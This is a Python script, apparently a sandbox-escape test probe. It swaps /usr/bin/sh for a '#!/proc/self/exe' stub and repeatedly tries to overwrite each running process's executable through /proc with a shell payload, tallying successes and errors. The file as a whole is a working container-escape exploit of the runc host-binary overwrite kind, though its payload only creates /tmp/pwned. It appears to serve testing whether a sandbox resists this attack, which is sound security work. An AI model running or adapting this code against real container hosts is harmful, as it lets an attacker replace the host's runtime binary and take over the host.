# Writes to whatever program runs, while the host starts commands whose shell is
# "#!/proc/self/exe". Ends when /tmp/stop is there.
import collections

tally = collections.Counter()
LOOT = b"#!/bin/sh\ntouch /tmp/pwned\n"


def overwrite(pid):
    exe = "/proc/%s/exe" % pid
    try:
        target = os.readlink(exe)
    except OSError as e:
        tally["readlink " + code(e.errno)] += 1
        return
    if target.startswith("/usr/bin/python") or target.startswith("/usr/bin/true"):
        return  # that is the sandbox's own
    held = None
    try:
        held = os.open(exe, os.O_PATH)
    except OSError as e:
        tally["hold " + code(e.errno)] += 1
    for path in [exe] + ([] if held is None else ["/proc/self/fd/%d" % held]):
        try:
            fd = os.open(path, os.O_WRONLY)
        except OSError as e:
            tally["open " + code(e.errno)] += 1
            continue
        try:
            os.write(fd, LOOT)
            tally["written " + target] += 1
        except OSError as e:
            tally["write " + code(e.errno)] += 1
        os.close(fd)
    if held is not None:
        os.close(held)


os.rename("/usr/bin/sh", "/usr/bin/sh.old")
with open("/usr/bin/sh", "w") as f:
    f.write("#!/proc/self/exe\n")
os.chmod("/usr/bin/sh", 0o755)
say("sh", open("/bin/sh").read().strip())
os.mknod("/tmp/ready", 0o644 | stat.S_IFREG)
rounds = 0
while not os.path.exists("/tmp/stop"):
    rounds += 1
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            overwrite(pid)
say("rounds", rounds)
for what, n in sorted(tally.items()):
    say("tally " + what, n)
end()
